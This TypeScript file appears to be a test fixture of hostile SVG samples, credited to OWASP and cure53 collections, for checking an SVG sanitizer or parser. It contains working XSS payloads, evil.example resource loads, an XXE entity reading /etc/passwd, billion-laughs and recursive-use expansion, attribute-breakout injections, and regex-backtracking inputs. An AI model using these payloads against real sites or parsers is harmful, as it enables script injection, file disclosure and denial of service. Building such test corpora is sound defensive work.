// Files that attack programs that show or parse them, after OWASP's and cure53's collections.

const xmlns = 'xmlns="http://www.w3.org/2000/svg"';
const box = 'viewBox="0 0 8 8"';
const shape = '<path d="M0 0h8v8z"/>';
const svg = (content: string, attributes = "") =>
  `<svg ${xmlns} xmlns:xlink="http://www.w3.org/1999/xlink" ${box} ${attributes}>${content}${shape}</svg>`;
const doctype = (inner: string, content: string) =>
  `<?xml version="1.0"?><!DOCTYPE svg [${inner}]>${svg(content)}`;

/** Each use draws the group before it ten times. */
const laughs = Array.from(
  { length: 9 },
  (_, level) => `<g id="l${level + 1}">${`<use href="#l${level}"/>`.repeat(10)}</g>`,
).join("");

export const hostileLogos: readonly (readonly [name: string, svg: string])[] = [
  ["script", svg("<script>alert(1)</script>")],
  ["script in CDATA", svg("<script><![CDATA[alert(1)]]></script>")],
  ["script with an address", svg('<script href="https://evil.example/x.js"/>')],
  ["script with xlink", svg('<script xlink:href="data:text/javascript,alert(1)"/>')],
  ["script in another case", svg("<ScRiPt>alert(1)</ScRiPt>")],
  [
    "script of another namespace",
    svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
  ],
  [
    "script with the SVG prefix",
    `<svg:svg xmlns:svg="http://www.w3.org/2000/svg" ${box}><svg:script>alert(1)</svg:script><svg:path d="M0 0h8"/></svg:svg>`,
  ],
  ["onload", svg("", 'onload="alert(1)"')],
  ["onclick on a shape", svg('<rect width="9" height="9" onclick="alert(1)"/>')],
  ["ONLOAD", svg("", 'ONLOAD="alert(1)"')],
  ["handler with an entity", svg('<g on&#108;oad="alert(1)"/>')],
  ["handler without quotation marks", svg("<g onload=alert(1)>")],
  ["link", svg('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>')],
  ["link with xlink", svg('<a xlink:href="javascript:alert(1)"><circle r="5"/></a>')],
  ["use of another file", svg('<use href="https://evil.example/x.svg#a"/>')],
  ["use of data", svg(`<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/>`)],
  ["use of javascript", svg('<use href="javascript:alert(1)"/>')],
  ["use with a tab", svg('<use href="java&#9;script:alert(1)"/>')],
  ["image", svg('<image href="https://evil.example/pixel.png" width="1" height="1"/>')],
  ["image of data", svg('<image xlink:href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>')],
  ["feImage", svg('<filter id="f"><feImage href="https://evil.example/x"/></filter>')],
  [
    "foreignObject",
    svg(
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    ),
  ],
  [
    "foreignObject with a body",
    svg(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
    ),
  ],
  ["html elements", svg('<iframe src="//evil.example"/><embed src="x"/><object data="x"/>')],
  [
    "handler",
    svg(
      '<handler type="text/javascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
    ),
  ],
  ["listener", svg('<listener event="load" handler="#y"/>')],
  ["set", svg('<set attributeName="onmouseover" to="alert(1)"/>')],
  [
    "animate of an address",
    svg('<a><animate attributeName="href" values="javascript:alert(1)"/><circle r="4"/></a>'),
  ],
  ["animateTransform", svg('<animateTransform onbegin="alert(1)" attributeName="transform"/>')],
  ["style element", svg("<style>@import url(https://evil.example/x.css);</style>")],
  [
    "style with an address",
    svg('<rect style="fill:url(https://evil.example/#a)" width="1" height="1"/>'),
  ],
  [
    "style with an expression",
    svg('<rect style="width:expression(alert(1))" width="1" height="1"/>'),
  ],
  [
    "class rule with an address",
    svg('<style>.a{fill:url("//evil.example/x")}</style><rect class="a" width="1" height="1"/>'),
  ],
  [
    "style that ends its element",
    svg("<style>.a{fill:red}</style></style><script>alert(1)</script>"),
  ],
  ["fill of another file", svg('<rect fill="url(//evil.example/a.svg#b)" width="1" height="1"/>')],
  ["mask of another file", svg('<g mask="url(https://evil.example#m)"/>')],
  ["entities", doctype('<!ENTITY a "<script>alert(1)</script>">', "&a;")],
  ["external entity", doctype('<!ENTITY a SYSTEM "file:///etc/passwd">', "<text>&a;</text>")],
  ["parameter entity", doctype('<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;', "")],
  [
    "billion laughs",
    doctype(
      `<!ENTITY a "ha"><!ENTITY b "${"&a;".repeat(10)}"><!ENTITY c "${"&b;".repeat(10)}">`,
      "<title>&c;</title>",
    ),
  ],
  ["attribute of an entity", doctype('<!ENTITY a "javascript:alert(1)">', '<use href="&a;"/>')],
  [
    "ten uses, nine levels deep",
    svg(`<defs><g id="l0">${shape}</g>${laughs}</defs><use href="#l9"/>`),
  ],
  ["use of itself", svg('<g id="a"><use href="#a"/></g>')],
  ["two uses in a circle", svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')],
  [
    "mask of itself",
    svg('<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><g mask="url(#m)"/>'),
  ],
  [
    "gradient of itself",
    svg('<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/>'),
  ],
  ["stylesheet instruction", `<?xml-stylesheet href="https://evil.example/x.css"?>${svg("")}`],
  [
    "XSLT instruction",
    `<?xml-stylesheet type="text/xsl" href="#x"?>${svg('<xsl:stylesheet id="x"/>')}`,
  ],
  ["comment that ends twice", svg("<!-- --><script>alert(1)</script> -->")],
  ["CDATA with markup", svg("<title><![CDATA[</title><script>alert(1)</script>]]></title>")],
  ["title with markup", svg("<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>")],
  ["id that ends its attribute", svg('<g id="a&quot; onload=&quot;alert(1)"/>')],
  [
    "path that ends its attribute",
    svg('<path d="M0 0&quot;/&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
  ],
  [
    "colour that ends its attribute",
    svg("<path fill='red\"/><script>alert(1)</script>' d='M0 0'/>"),
  ],
  ["two of one attribute", svg('<path d="M0 0h1" d="javascript:1"/>')],
  ["__proto__", svg('<g __proto__="x" constructor="y" toString="z"/>')],
  ["unclosed elements", `<svg ${xmlns} ${box}><g><g><path d="M0 0h8"`],
  ["second root", `${svg("")}<script>alert(1)</script>`],
  ["HTML around it", `<html><body>${svg("")}<script>alert(1)</script></body></html>`],
  ["UTF-7", svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")],
  ["null characters", svg("<scr\u0000ipt>alert(1)</scr\u0000ipt>")],
  ["directional characters", svg('<g id="\u202eexe"/>')],
  ["a path of 40,000 characters", svg(`<path d="${"M0 0h1".repeat(7_000)}"/>`)],
  ["numbers without end", svg(`<rect width="${"9".repeat(30_000)}" height="1"/>`)],
  ["dashes that backtrack", svg(`<path stroke-dasharray="${"1 ".repeat(8_000)}x" d="M0 0h1"/>`)],
  ["transforms that backtrack", svg(`<g transform="${"scale(1) ".repeat(3_000)}!">${shape}</g>`)],
  ["rules that backtrack", svg(`<style>${".a,".repeat(6_000)}{</style>`)],
];
